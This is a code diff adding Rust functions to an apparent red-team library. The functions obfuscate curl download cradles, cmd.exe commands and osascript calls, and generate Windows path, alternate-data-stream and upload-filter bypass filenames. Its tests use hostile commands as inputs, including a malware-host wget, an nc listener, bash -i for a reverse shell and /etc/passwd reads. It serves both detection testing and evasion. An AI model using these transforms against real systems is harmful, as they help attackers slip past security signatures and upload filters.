+/// Wraps a shell command in an `osascript` call that runs it via `do shell script`.
+///
+/// The command is passed as a `character id` list, so the shell sees
+/// `osascript -e 'do shell script (character id {105, 100})'` and the
+/// original command only exists once AppleScript rebuilds it.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Run shell commands through osascript as a macOS proxy execution
+/// - **Blue Team**: Verify detections cover `osascript` spawning `/bin/sh`
+///
+/// # Examples
+///
+/// ```
+/// use redstr::osascript_shell_wrap;
+/// assert_eq!(
+///     osascript_shell_wrap("id"),
+///     "osascript -e 'do shell script (character id {105, 100})'"
+/// );
+/// ```
+pub fn osascript_shell_wrap(command: &str) -> String {
+    format!(
+        "osascript -e 'do shell script {}'",
+        applescript_char_ids(command)
+    )
+}
+
+/// Single-quotes `text` for a POSIX shell.
+fn sh_quote(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
+
+/// Spells an IPv4 address in a form curl resolves but signatures rarely match.
+/// Returns the form's name with the host.
+fn curl_ipv4_host(octets: [u8; 4], rng: &mut SimpleRng) -> (&'static str, String) {
+    let [a, b, c, d] = octets;
+    let value = u32::from_be_bytes(octets);
+    match rng.next() % 4 {
+        0 => ("integer", value.to_string()),
+        1 => ("hex", format!("0x{:08x}", value)),
+        2 => ("octal", format!("0{:o}", value)),
+        _ => (
+            "dotted_hex",
+            format!("0x{:x}.0x{:x}.0x{:x}.0x{:x}", a, b, c, d),
+        ),
+    }
+}
+
+/// Splits a query string into `--data-urlencode` arguments, or `None` when
+/// a parameter cannot be expressed that way.
+fn curl_data_urlencode(query: &str) -> Option<Vec<String>> {
+    let mut args = Vec::new();
+    for param in query.split('&').filter(|p| !p.is_empty()) {
+        let (key, value) = param.split_once('=').unwrap_or((param, ""));
+        if key.is_empty() {
+            return None;
+        }
+        // curl encodes the value again, so hand it over decoded
+        let value = String::from_utf8(percent_decode(&value.replace('+', " "))).ok()?;
+        args.push(format!(
+            "--data-urlencode {}",
+            sh_quote(&format!("{}={}", key, value))
+        ));
+    }
+    Some(args)
+}
+
+/// Obfuscates a curl download command for a URL.
+///
+/// Each part of the command is varied at random:
+///
+/// - IPv4 hosts are written as an integer, hex, octal or dotted-hex
+///   address (`127.0.0.1` becomes `2130706433`, `0x7f000001`, ...)
+/// - Query parameters stay in the URL, move to `-G --data-urlencode`
+///   arguments, or are smuggled base64-encoded in a `Cookie` header for
+///   stagers that read them from there
+/// - The `-f -s -S -L` flags are combined (`-fsSL`), separate, or spelled
+///   as shuffled long options (`--fail --silent ...`)
+/// - The URL is passed as an argument, with `--url`, or as a config file
+///   on standard input (`echo 'url = "..."' | curl -K -`)
+///
+/// Fragments are dropped, as curl never sends them.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Vary download cradles so URL and flag signatures miss them
+/// - **Blue Team**: Verify command-line detections normalize curl hosts and options
+///
+/// # Examples
+///
+/// ```
+/// use redstr::curl_obfuscate;
+/// let result = curl_obfuscate("http://127.0.0.1/stage.sh");
+/// assert!(result.contains("curl "));
+/// assert!(!result.contains("127.0.0.1"));
+/// ```
+pub fn curl_obfuscate(url: &str) -> String {
+    curl_obfuscate_detailed(url).output
+}
+
+/// Like [`curl_obfuscate`], also reporting the form chosen for each part.
+///
+/// Parameters, in order:
+///
+/// - `host`: `integer`, `hex`, `octal`, `dotted_hex`, or `unchanged` for
+///   names and IPv6 addresses
+/// - `query`: `url`, `data_urlencode`, `cookie`, or `none`
+/// - `flags`: `combined`, `separate` or `long`
+/// - `delivery`: `argument`, `url_option` or `config_stdin`
+///
+/// # Examples
+///
+/// ```
+/// use redstr::curl_obfuscate_detailed;
+/// let result = curl_obfuscate_detailed("http://example.com/a.sh");
+/// assert_eq!(result.technique, "curl_cradle");
+/// assert_eq!(result.parameter("host"), Some("unchanged"));
+/// assert_eq!(result.parameter("query"), Some("none"));
+/// ```
+pub fn curl_obfuscate_detailed(url: &str) -> TransformResult {
+    let mut rng = SimpleRng::new();
+    let parts = UrlParts::parse(url);
+
+    let (host_form, host) = match parse_ipv4(parts.host) {
+        Some(octets) => curl_ipv4_host(octets, &mut rng),
+        None => ("unchanged", parts.host.to_string()),
+    };
+    let rest = parts.rest.split('#').next().unwrap_or("");
+    let (path, query) = match rest.split_once('?') {
+        Some((path, query)) => (path, Some(query)),
+        None => (rest, None),
+    };
+
+    let mut args = Vec::new();
+    let mut target_query = query;
+    let mut query_form = if query.is_some() { "url" } else { "none" };
+    if let Some(query) = query.filter(|q| !q.is_empty()) {
+        match rng.next() % 3 {
+            0 => {
+                if let Some(data) = curl_data_urlencode(query) {
+                    args.push("-G".to_string());
+                    args.extend(data);
+                    target_query = None;
+                    query_form = "data_urlencode";
+                }
+            }
+            1 => {
+                args.push(format!(
+                    "-H {}",
+                    sh_quote(&format!("Cookie: q={}", base64_encode(query)))
+                ));
+                target_query = None;
+                query_form = "cookie";
+            }
+            _ => {}
+        }
+    }
+
+    let rest = match target_query {
+        Some(query) => format!("{}?{}", path, query),
+        None => path.to_string(),
+    };
+    let target = UrlParts {
+        rest: &rest,
+        ..parts
+    }
+    .with_host(&host);
+
+    let (flag_form, flags) = match rng.next() % 3 {
+        0 => ("combined", "-fsSL".to_string()),
+        1 => ("separate", "-f -s -S -L".to_string()),
+        _ => {
+            let mut long = ["--fail", "--silent", "--show-error", "--location"];
+            // Fisher-Yates shuffle
+            for i in (1..long.len()).rev() {
+                long.swap(i, rng.next() as usize % (i + 1));
+            }
+            ("long", long.join(" "))
+        }
+    };
+    let mut command = format!("curl {}", flags);
+    for arg in &args {
+        command.push(' ');
+        command.push_str(arg);
+    }
+
+    let (delivery, output) = match rng.next() % 3 {
+        0 => ("argument", format!("{} {}", command, sh_quote(&target))),
+        1 => (
+            "url_option",
+            format!("{} --url {}", command, sh_quote(&target)),
+        ),
+        _ => (
+            "config_stdin",
+            format!(
+                "echo {} | {} -K -",
+                sh_quote(&format!(
+                    "url = \"{}\"",
+                    target.replace('\\', "\\\\").replace('"', "\\\"")
+                )),
+                command
+            ),
+        ),
+    };
+
+    TransformResult {
+        output,
+        technique: "curl_cradle",
+        parameters: vec![
+            ("host", host_form.to_string()),
+            ("query", query_form.to_string()),
+            ("flags", flag_form.to_string()),
+            ("delivery", delivery.to_string()),
+        ],
+        reversible: false,
+    }
+}
+
+/// Obfuscates environment variable references for shell command evasion.
+///
+/// Useful for penetration testing on Parrot and Kali Linux systems.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::env_var_obfuscate;
+/// let var = "$HOME";
+/// let result = env_var_obfuscate(var);
+/// assert!(result.len() > 0);
+/// ```
+pub fn env_var_obfuscate(input: &str) -> String {
+    let mut rng = SimpleRng::new();
+
+    if !input.contains('$') {
+        return input.to_string();
+    }
+
+    input
+        .chars()
+        .map(|c| {
+            if c == '$' {
+                match rng.next() % 3 {
+                    0 => "$".to_string(),
+                    1 => "${".to_string(), // Start brace expansion
+                    2 => "$(".to_string(), // Command substitution start
+                    _ => "$".to_string(),
+                }
+            } else if c.is_alphabetic() && rng.next() % 4 == 0 {
+                // Case variation
+                if c.is_uppercase() {
+                    c.to_lowercase().to_string()
+                } else {
+                    c.to_uppercase().to_string()
+                }
+            } else {
+                c.to_string()
+            }
+        })
+        .collect()
+}
+
+/// Generates file path obfuscation for path traversal and file inclusion testing.
+///
+/// Useful for penetration testing on Parrot and Kali Linux systems.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::file_path_obfuscate;
+/// let path = "/etc/passwd";
+/// let result = file_path_obfuscate(path);
+/// assert!(result.len() > 0);
+/// ```
+pub fn file_path_obfuscate(path: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let mut result = String::new();
+
+    for c in path.chars() {
+        match c {
+            '/' => {
+                // Path separator variations
+                match rng.next() % 4 {
+                    0 => result.push('/'),
+                    1 => {
+                        // Add path traversal
+                        if rng.next() % 2 == 0 {
+                            result.push_str("../");
+                        } else {
+                            result.push('/');
+                        }
+                    }
+                    2 => result.push('\\'), // Windows-style (sometimes works on Linux)
+                    _ => result.push('/'),
+                }
+            }
+            '.' => {
+                // Dot variations
+                match rng.next() % 3 {
+                    0 => result.push('.'),
+                    1 => result.push_str("%2e"), // URL encoded
+                    _ => result.push('.'),
+                }
+            }
+            _ => {
+                // Case variation for filenames
+                if c.is_alphabetic() && rng.next() % 5 == 0 {
+                    if c.is_uppercase() {
+                        result.push_str(&c.to_lowercase().to_string());
+                    } else {
+                        result.push_str(&c.to_uppercase().to_string());
+                    }
+                } else {
+                    result.push(c);
+                }
+            }
+        }
+    }
+
+    result
+}
+
+/// Returns the length of the `%VAR%` or `!VAR!` reference at the start of `text`.
+///
+/// The name must be a variable identifier, optionally followed by a
+/// `:~n,m` or `:old=new` modifier, with no whitespace, so a literal such as
+/// the `%` of `100% done%` is not mistaken for a reference.
+fn cmd_variable_len(text: &str) -> Option<usize> {
+    let delimiter = text.chars().next().filter(|c| *c == '%' || *c == '!')?;
+    let inner = &text[1..][..text[1..].find(delimiter)?];
+    let name = inner.split(':').next().unwrap_or(inner);
+    let identifier = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_()".contains(c));
+    (identifier && !inner.contains(char::is_whitespace)).then_some(inner.len() + 2)
+}
+
+/// Generates cmd.exe command obfuscation for Windows penetration testing.
+///
+/// Combines the cmd.exe parser tricks that keep a command runnable:
+///
+/// - Caret escapes before letters and digits (`p^i^ng`), which cmd.exe
+///   removes while parsing
+/// - Empty quote pairs inside words (`p""ing`), which are stripped as well
+/// - Random `%COMSPEC% /c` indirection, running the command through a
+///   second cmd.exe
+///
+/// Characters inside double quotes are left alone, since carets are literal
+/// there, as are `%VAR%` and `!VAR!` references, whose names must match
+/// exactly. Operators such as `&`, `|`, `<` and `>` are never escaped so
+/// the command keeps its meaning.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Evade command-line signatures on Windows targets
+/// - **Blue Team**: Verify process-creation rules deobfuscate cmd.exe escapes
+///
+/// # Examples
+///
+/// ```
+/// use redstr::cmd_obfuscate;
+/// let result = cmd_obfuscate("ping 127.0.0.1");
+/// let plain = result
+///     .trim_start_matches("%COMSPEC% /c ")
+///     .replace('^', "")
+///     .replace("\"\"", "");
+/// assert_eq!(plain, "ping 127.0.0.1");
+/// ```
+pub fn cmd_obfuscate(command: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let mut result = String::new();
+    let mut in_quotes = false;
+    let mut prev: Option<char> = None;
+    let mut variable_end = 0;
+
+    for (i, c) in command.char_indices() {
+        if i < variable_end {
+            continue;
+        }
+        if !in_quotes {
+            // `%VAR%` and `!VAR!` only expand with the name left intact.
+            if let Some(len) = cmd_variable_len(&command[i..]) {
+                variable_end = i + len;
+                result.push_str(&command[i..variable_end]);
+                prev = Some(c);
+                continue;
+            }
+        }
+        if c == '"' {
+            in_quotes = !in_quotes;
+        } else if !in_quotes && c.is_ascii_alphanumeric() {
+            let inside_word = prev.is_some_and(|p| p.is_ascii_alphanumeric());
+            if inside_word && rng.next() % 5 == 0 {
+                result.push_str("\"\"");
+            } else if rng.next() % 3 == 0 {
+                result.push('^');
+            }
+        }
+        result.push(c);
+        prev = Some(c);
+    }
+
+    if !command.is_empty() && rng.next() % 2 == 0 {
+        result = format!("%COMSPEC% /c {}", result);
+    }
+    result
+}
+
+/// Windows environment variables whose default values are the same on
+/// every stock installation, for `%VAR:~n,1%` substring expansion.
+const WINDOWS_ENV_DEFAULTS: &[(&str, &str)] = &[
+    ("COMSPEC", "C:\\Windows\\system32\\cmd.exe"),
+    ("SystemRoot", "C:\\Windows"),
+    ("ProgramFiles", "C:\\Program Files"),
+    ("CommonProgramFiles", "C:\\Program Files\\Common Files"),
+    ("ALLUSERSPROFILE", "C:\\ProgramData"),
+    ("PUBLIC", "C:\\Users\\Public"),
+    (
+        "PATHEXT",
+        ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC",
+    ),
+];
+
+/// Rewrites a cmd.exe command with characters sliced out of environment variables.
+///
+/// Each letter or digit found in the default value of a well-known variable
+/// (`%COMSPEC%`, `%PATHEXT%`, `%SystemRoot%`, `%ProgramFiles%`, ...) is
+/// replaced by a one-character substring expansion at a random position,
+/// counted from the start or the end: `p` becomes `%ProgramFiles:~3,1%` or
+/// `%PUBLIC:~-6,1%`. Characters no variable contains are kept as they are.
+///
+/// Letters in the command name and in `/` or `-` switches are matched
+/// case-insensitively, since cmd.exe and most tools ignore their case.
+/// Letters in other arguments only use sources of the same case, so
+/// strings such as passwords or URLs come out unchanged. Existing `%VAR%`
+/// and `!VAR!` references are kept as they are, since their names must
+/// match exactly. The expansion only happens where cmd.exe parses the line.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Build command names such as `powershell` that never appear in the command line
+/// - **Blue Team**: Verify detection of `%VAR:~n,1%` substring expansion (Invoke-DOSfuscation)
+///
+/// # Examples
+///
+/// ```
+/// use redstr::cmd_env_substring;
+/// let result = cmd_env_substring("whoami");
+/// assert!(result.contains(":~"));
+/// assert!(!result.contains("whoami"));
+/// ```
+pub fn cmd_env_substring(command: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let mut result = String::new();
+    let mut words = 0;
+    let mut fold_case = false;
+    let mut prev = ' ';
+    let mut variable_end = 0;
+
+    for (i, c) in command.char_indices() {
+        if i < variable_end {
+            continue;
+        }
+        if prev.is_whitespace() && !c.is_whitespace() {
+            fold_case = words == 0 || c == '/' || c == '-';
+            words += 1;
+        }
+        prev = c;
+        // `%VAR%` and `!VAR!` only expand with the name left intact.
+        if let Some(len) = cmd_variable_len(&command[i..]) {
+            variable_end = i + len;
+            result.push_str(&command[i..variable_end]);
+            continue;
+        }
+        if !c.is_ascii_alphanumeric() {
+            result.push(c);
+            continue;
+        }
+        let sources: Vec<(&str, usize, usize)> = WINDOWS_ENV_DEFAULTS
+            .iter()
+            .flat_map(|(name, value)| {
+                value
+                    .chars()
+                    .enumerate()
+                    .filter(|(_, v)| *v == c || (fold_case && v.eq_ignore_ascii_case(&c)))
+                    .map(move |(i, _)| (*name, i, value.len()))
+            })
+            .collect();
+        if sources.is_empty() {
+            result.push(c);
+            continue;
+        }
+        let (name, index, len) = sources[rng.next() as usize % sources.len()];
+        if rng.next() % 2 == 0 {
+            result.push_str(&format!("%{}:~{},1%", name, index));
+        } else {
+            result.push_str(&format!("%{}:~-{},1%", name, len - index));
+        }
+    }
+
+    result
+}
+
+/// Guesses the 8.3 short name Windows generates for a long path component:
+/// `Program Files` becomes `PROGRA~1`, `Documents.docx` becomes `DOCUME~1.DOC`.
+fn short_name(component: &str) -> Option<String> {
+    let (stem, ext) = match component.rfind('.') {
+        Some(dot) if dot > 0 => (&component[..dot], &component[dot + 1..]),
+        _ => (component, ""),
+    };
+    let fits = stem.len() <= 8 && ext.len() <= 3 && !component.contains(' ');
+    if fits || component.starts_with('.') {
+        return None;
+    }
+    let clean = |text: &str, len: usize| -> String {
+        text.chars()
+            .filter(|c| c.is_ascii_alphanumeric() || "_-$~!#%&".contains(*c))
+            .take(len)
+            .collect::<String>()
+            .to_uppercase()
+    };
+    let stem = clean(stem, 6);
+    if stem.is_empty() {
+        return None;
+    }
+    let ext = clean(ext, 3);
+    if ext.is_empty() {
+        Some(format!("{}~1", stem))
+    } else {
+        Some(format!("{}~1.{}", stem, ext))
+    }
+}
+
+/// Generates Windows path variants that resolve to the same file as `path`.
+///
+/// `path` may use `\` or `/`. Drive-qualified paths (`C:\...`) also get the
+/// device and UNC forms:
+///
+/// - Win32 device namespace: `\\?\C:\...`, `\\.\C:\...`
+/// - Administrative shares: `\\localhost\C$\...`, `\\127.0.0.1\C$\...`,
+///   `\\?\UNC\localhost\C$\...`
+/// - Forward, mixed and doubled separators, and a `\.\` self reference
+/// - 8.3 short names for long components (`PROGRA~1`); the `~1` suffix is a
+///   guess that holds for the first such name in a directory
+/// - Trailing dot and space on the file name (`hosts.`, `hosts `), which
+///   Win32 path normalization strips
+///
+/// Duplicates, and variants identical to `path`, are dropped.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass path blocklists and LFI filters on Windows targets
+/// - **Blue Team**: Verify file access checks canonicalize paths before matching
+///
+/// # Examples
+///
+/// ```
+/// use redstr::windows_path_obfuscate;
+/// let variants = windows_path_obfuscate("C:\\Program Files\\app\\config.ini");
+/// assert!(variants.contains(&"\\\\?\\C:\\Program Files\\app\\config.ini".to_string()));
+/// assert!(variants.contains(&"\\\\localhost\\C$\\Program Files\\app\\config.ini".to_string()));
+/// assert!(variants.contains(&"C:/Program Files/app/config.ini".to_string()));
+/// assert!(variants.contains(&"C:\\PROGRA~1\\app\\config.ini".to_string()));
+/// assert!(variants.contains(&"C:\\Program Files\\app\\config.ini.".to_string()));
+/// ```
+pub fn windows_path_obfuscate(path: &str) -> Vec<String> {
+    let normalized = path.replace('/', "\\");
+    let mut variants = Vec::new();
+    if normalized.is_empty() {
+        return variants;
+    }
+
+    let bytes = normalized.as_bytes();
+    let drive = (bytes.len() >= 2 && bytes[1] == b':' && bytes[0].is_ascii_alphabetic())
+        .then(|| (bytes[0] as char).to_ascii_uppercase());
+    if let Some(letter) = drive {
+        let rest = normalized[2..].trim_start_matches('\\');
+        let local = format!("{}:\\{}", letter, rest);
+        variants.push(format!("\\\\?\\{}", local));
+        variants.push(format!("\\\\.\\{}", local));
+        variants.push(format!("\\\\localhost\\{}$\\{}", letter, rest));
+        variants.push(format!("\\\\127.0.0.1\\{}$\\{}", letter, rest));
+        variants.push(format!("\\\\?\\UNC\\localhost\\{}$\\{}", letter, rest));
+    }
+
+    variants.push(normalized.replace('\\', "/"));
+    let mut forward = false;
+    variants.push(
+        normalized
+            .chars()
+            .map(|c| match c {
+                '\\' => {
+                    forward = !forward;
+                    if forward {
+                        '/'
+                    } else {
+                        '\\'
+                    }
+                }
+                _ => c,
+            })
+            .collect(),
+    );
+    variants.push(normalized.replace('\\', "\\\\"));
+    if let Some(sep) = normalized.rfind('\\') {
+        variants.push(format!("{}\\.{}", &normalized[..sep], &normalized[sep..]));
+    }
+
+    let shortened: Vec<String> = normalized
+        .split('\\')
+        .map(|component| short_name(component).unwrap_or_else(|| component.to_string()))
+        .collect();
+    variants.push(shortened.join("\\"));
+
+    if !normalized.ends_with('\\') {
+        variants.push(format!("{}.", normalized));
+        variants.push(format!("{} ", normalized));
+        variants.push(format!("{}. .", normalized));
+    }
+
+    dedup_preserving_order(variants.into_iter().filter(|variant| variant != path))
+}
+
+/// Builds an NTFS alternate data stream path, `file.txt:hidden.ps1`.
+///
+/// The stream is stored inside `path` but not shown in directory listings
+/// or counted in its size. `stream` may carry a stream type
+/// (`hidden.ps1:$DATA`).
+///
+/// # Use Cases
+///
+/// - **Red Team**: Hide payloads behind benign files on NTFS volumes
+/// - **Blue Team**: Verify EDR and file scanners inspect alternate data streams
+///
+/// # Examples
+///
+/// ```
+/// use redstr::ads_path;
+/// assert_eq!(ads_path("file.txt", "hidden.ps1"), "file.txt:hidden.ps1");
+/// ```
+pub fn ads_path(path: &str, stream: &str) -> String {
+    format!("{}:{}", path, stream)
+}
+
+/// Generates NTFS alternate data stream variants of `path`.
+///
+/// - `::$DATA` (and `::$data`) names the default stream, so the result is
+///   the file itself under a name extension filters do not recognize
+/// - `:.jpg` creates an empty file named `path` while the upload filter
+///   sees a `.jpg` extension
+/// - Named streams (`:hidden`, `:hidden:$DATA`) and the browser's
+///   `:Zone.Identifier` Mark-of-the-Web stream
+/// - `::$INDEX_ALLOCATION` and `:$I30:$INDEX_ALLOCATION`, which create or
+///   open `path` as a directory
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass upload extension filters and read source through `::$DATA`
+/// - **Blue Team**: Verify file-name validation rejects `:` on Windows servers
+///
+/// # Examples
+///
+/// ```
+/// use redstr::ads_variants;
+/// let variants = ads_variants("shell.asp");
+/// assert!(variants.contains(&"shell.asp::$DATA".to_string()));
+/// assert!(variants.contains(&"shell.asp:.jpg".to_string()));
+/// assert!(variants.contains(&"shell.asp:Zone.Identifier".to_string()));
+/// ```
+pub fn ads_variants(path: &str) -> Vec<String> {
+    [
+        ":$DATA",
+        ":$data",
+        ".jpg",
+        "hidden",
+        "hidden:$DATA",
+        "Zone.Identifier",
+        "Zone.Identifier:$DATA",
+        ":$INDEX_ALLOCATION",
+        "$I30:$INDEX_ALLOCATION",
+    ]
+    .iter()
+    .map(|stream| ads_path(path, stream))
+    .collect()
+}
+
+/// DOS device names Win32 reserves in every directory, with or without an extension.
+const WINDOWS_DEVICE_NAMES: &[&str] = &[
+    "CON", "PRN", "AUX", "NUL", "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7", "COM8",
+    "COM9", "LPT1", "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9", "COM¹", "COM²",
+    "COM³", "LPT¹", "LPT²", "LPT³", "CONIN$", "CONOUT$",
+];
+
+/// Generates reserved Windows device file names carrying the extension of `base`.
+///
+/// Opening `NUL.jpg` or `COM1.txt` opens the device, not a file, so these
+/// names exercise upload and file handling code that never expects a
+/// filename to be unusable. `base` is a filename (`avatar.png`) or a bare
+/// extension (`png`). For every device name (`CON`, `PRN`, `AUX`, `NUL`,
+/// `COM1`-`COM9`, `LPT1`-`LPT9`, superscript `COM¹`-`LPT³`, `CONIN$`,
+/// `CONOUT$`) the result contains:
+///
+/// - The bare name and the name with the extension (`CON`, `CON.png`)
+/// - Lowercase (`con.png`)
+/// - Trailing dot and space forms Win32 normalizes back to the device
+///   (`CON.`, `CON.png.`, `CON .png`)
+/// - A double extension (`CON.png.png`)
+///
+/// # Use Cases
+///
+/// - **Red Team**: Crash or hang file handlers on Windows hosts with device names
+/// - **Blue Team**: Verify upload handlers reject reserved names in every form
+///
+/// # Examples
+///
+/// ```
+/// use redstr::windows_reserved_names;
+/// let names = windows_reserved_names("avatar.png");
+/// assert!(names.contains(&"CON.png".to_string()));
+/// assert!(names.contains(&"com1.png".to_string()));
+/// assert!(names.contains(&"NUL.".to_string()));
+/// assert!(names.contains(&"LPT¹.png".to_string()));
+/// ```
+pub fn windows_reserved_names(base: &str) -> Vec<String> {
+    let ext = base.rsplit('.').next().unwrap_or("");
+    let mut names = Vec::new();
+    for device in WINDOWS_DEVICE_NAMES {
+        names.push(device.to_string());
+        names.push(format!("{}.", device));
+        if ext.is_empty() {
+            continue;
+        }
+        names.push(format!("{}.{}", device, ext));
+        names.push(format!("{}.{}", device.to_lowercase(), ext));
+        names.push(format!("{}.{}.", device, ext));
+        names.push(format!("{} .{}", device, ext));
+        names.push(format!("{}.{}.{}", device, ext, ext));
+    }
+
+    dedup_preserving_order(names)
+}
+
+/// Alternative extensions servers commonly map to the same handler.
+const EXTENSION_ALIASES: &[(&str, &[&str])] = &[
+    (
+        "php",
+        &[
+            "php3", "php4", "php5", "php7", "phtml", "pht", "phar", "phps",
+        ],
+    ),
+    ("asp", &["aspx", "asa", "cer", "cdx"]),
+    ("aspx", &["asp", "ashx", "asmx", "ascx"]),
+    ("jsp", &["jspx", "jsw", "jsv", "jspf"]),
+    ("exe", &["scr", "com", "pif", "bat", "cmd"]),
+];
+
+/// Generates upload filenames that pair a harmless-looking `name` with `real_ext`.
+///
+/// `name` is the filename the upload filter expects (`avatar.jpg`,
+/// `report.pdf`) and `real_ext` the extension meant to be executed or
+/// opened (`php`, `exe`). Variants cover:
+///
+/// - Double extensions in both orders: `report.pdf.exe` (hidden-extension
+///   display) and `avatar.php.jpg` (Apache multiple-extension handlers)
+/// - Case changes and handler aliases: `avatar.pHp`, `avatar.PHP`,
+///   `avatar.pHp5`, `avatar.phtml`
+/// - Truncation and padding: `avatar.php%00.jpg`, `avatar.php;.jpg` (IIS),
+///   trailing space, dot and `%20`, and the `::$DATA` stream
+/// - A right-to-left override (U+202E) making `avatar<RLO>gpj.php` display
+///   as `avatarphp.jpg`
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass extension allowlists in file upload handlers
+/// - **Blue Team**: Verify upload validation parses the final, normalized extension
+///
+/// # Examples
+///
+/// ```
+/// use redstr::double_extension_filenames;
+/// let names = double_extension_filenames("shell.jpg", "php");
+/// assert!(names.contains(&"shell.jpg.php".to_string()));
+/// assert!(names.contains(&"shell.php.jpg".to_string()));
+/// assert!(names.contains(&"shell.pHp5".to_string()));
+/// assert!(names.contains(&"shell.php%00.jpg".to_string()));
+/// ```
+pub fn double_extension_filenames(name: &str, real_ext: &str) -> Vec<String> {
+    let real = real_ext.trim_start_matches('.');
+    let (stem, safe) = match name.rfind('.') {
+        Some(dot) if dot > 0 => (&name[..dot], &name[dot + 1..]),
+        _ => (name, ""),
+    };
+    let mixed_case = |ext: &str| -> String {
+        ext.chars()
+            .enumerate()
+            .map(|(i, c)| {
+                if i % 2 == 1 {
+                    c.to_ascii_uppercase()
+                } else {
+                    c.to_ascii_lowercase()
+                }
+            })
+            .collect()
+    };
+
+    let mut names = Vec::new();
+    if !safe.is_empty() {
+        names.push(format!("{}.{}.{}", stem, safe, real));
+        names.push(format!("{}.{}.{}", stem, real, safe));
+    }
+    names.push(format!("{}.{}", stem, mixed_case(real)));
+    names.push(format!("{}.{}", stem, real.to_uppercase()));
+    let aliases = EXTENSION_ALIASES
+        .iter()
+        .find(|(ext, _)| ext.eq_ignore_ascii_case(real))
+        .map_or(&[][..], |(_, aliases)| aliases);
+    for alias in aliases {
+        names.push(format!("{}.{}", stem, alias));
+        names.push(format!("{}.{}", stem, mixed_case(alias)));
+    }
+    if !safe.is_empty() {
+        names.push(format!("{}.{}%00.{}", stem, real, safe));
+        names.push(format!("{}.{};.{}", stem, real, safe));
+        let reversed: String = safe.chars().rev().collect();
+        names.push(format!("{}\u{202E}{}.{}", stem, reversed, real));
+    }
+    names.push(format!("{}.{} ", stem, real));
+    names.push(format!("{}.{}.", stem, real));
+    names.push(format!("{}.{}%20", stem, real));
+    names.push(format!("{}.{}::$DATA", stem, real));
+
+    dedup_preserving_order(names)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashSet;
+
+    #[test]
+    fn test_powershell_obfuscate() {
+        let cmd = "Get-Process";
+        let result = powershell_obfuscate(cmd);
+        assert!(result.len() > 0);
+        assert!(result.to_lowercase().contains("get"));
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_empty() {
+        assert_eq!(powershell_obfuscate(""), "");
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_get_childitem() {
+        let result = powershell_obfuscate("Get-ChildItem");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_invoke_expression() {
+        let result = powershell_obfuscate("Invoke-Expression");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_with_params() {
+        let result = powershell_obfuscate("Get-Process -Name chrome");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_pipeline() {
+        let result = powershell_obfuscate("Get-Process | Where-Object");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_script_block() {
+        let result = powershell_obfuscate("{ Get-Process }");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_multiple_commands() {
+        let result = powershell_obfuscate("Get-Process; Get-Service");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_download_string() {
+        let result = powershell_obfuscate("Invoke-WebRequest");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_base64() {
+        let result = powershell_obfuscate("FromBase64String");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_powershell_obfuscate_preserves_structure() {
+        let cmd = "Test-Command";
+        let result = powershell_obfuscate(cmd);
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate() {
+        let cmd = "cat /etc/passwd";
+        let result = bash_obfuscate(cmd);
+        assert!(result.contains("cat"));
+    }
+
+    #[test]
+    fn test_bash_obfuscate_empty() {
+        assert_eq!(bash_obfuscate(""), "");
+    }
+
+    #[test]
+    fn test_bash_obfuscate_simple() {
+        let result = bash_obfuscate("ls -la");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_curl() {
+        let result = bash_obfuscate("curl http://example.com");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_wget() {
+        let result = bash_obfuscate("wget https://malware.com");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_nc() {
         let result = bash_obfuscate("nc -lvp 4444");
         assert!(!result.is_empty());
     }
 
     #[test]
-    fn test_bash_obfuscate_bash_reverse_shell() {
-        let result = bash_obfuscate("bash -i");
-        assert!(!result.is_empty());
+    fn test_bash_obfuscate_bash_reverse_shell() {
+        let result = bash_obfuscate("bash -i");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_pipeline() {
+        let result = bash_obfuscate("cat file | grep test");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_redirection() {
+        let result = bash_obfuscate("echo test > file.txt");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_chmod() {
+        let result = bash_obfuscate("chmod +x script.sh");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_bash_obfuscate_preserves_content() {
+        let cmd = "rm -rf /tmp/test";
+        let result = bash_obfuscate(cmd);
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate() {
+        let var = "$HOME";
+        let result = env_var_obfuscate(var);
+        assert!(result.to_lowercase().contains("home"));
+    }
+
+    #[test]
